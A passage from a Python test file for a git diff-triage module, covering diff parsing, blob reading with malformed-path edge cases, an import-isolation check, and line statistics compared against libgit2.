    files = diff_commit(rb.repo, c2)
    for fd in files:
        post_image(rb.repo, c2, fd)
    read_blob(rb.repo, c2, "a.py")
    assert sorted((f.status, f.path, f.added) for f in files) == [("A", "b.py", 1), ("M", "a.py", 1)]
    assert not marker.exists()


def test_read_blob_edge_cases(rb):
    c = rb.commit({"d/e/f.txt": b"deep\n", "top.txt": b"t\n"})
    assert read_blob(rb.repo, c, "d/e/f.txt") == b"deep\n"
    assert read_blob(rb.repo, c, "d/e") is None  # a directory
    for bad in ("missing.txt", "", "/top.txt", "d//e/f.txt", "../top.txt", "d/./e/f.txt", "top.txt/x"):
        assert read_blob(rb.repo, c, bad) is None, bad


def test_post_image_for_deleted_and_parsed_files(rb):
    _, c2 = rb.pair({"gone.txt": b"bye\n", "keep.txt": b"1\n"}, {"keep.txt": b"2\n"})
    files = diff_commit(rb.repo, c2)
    assert post_image(rb.repo, c2, only(files, "gone.txt")) is None
    # A FileDiff parsed from text (abbreviated oids) falls back to the path.
    [parsed] = parse_patch(b"--- a/keep.txt\n+++ b/keep.txt\n@@ -1 +1 @@\n-1\n+2\n")
    assert post_image(rb.repo, c2, parsed) == b"2\n"


def test_diff_module_imports_no_ui_libraries():
    code = (
        "import sys, triage.diff, triage.models\n"
        "bad = [m for m in sys.modules if m.split('.')[0] in ('textual', 'rich')]\n"
        "assert not bad, bad\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, cwd=Path(__file__).resolve().parents[1])


def test_stats_match_libgit2_on_a_mixed_commit(rb):
    _, c2 = rb.pair(
        {"a": b"1\n2\n3\n", "b.bin": b"\x00\x01", "c": b"x\n" * 10, "d": b"keep\n"},
        {"a": b"1\n3\n4\n", "b.bin": b"\x00\x02", "c2": b"x\n" * 9 + b"y\n", "e": b"new\nfile\n", "d": b"keep\n"},
    )
    files = diff_commit(rb.repo, c2)
    ref = rb.repo.diff(c2.parents[0].tree, c2.tree, flags=DiffOption.INCLUDE_TYPECHANGE)
    ref.find_similar(flags=DiffFind.FIND_RENAMES | DiffFind.FIND_COPIES)
    assert sum(f.added for f in files) == ref.stats.insertions
    assert sum(f.deleted for f in files) == ref.stats.deletions
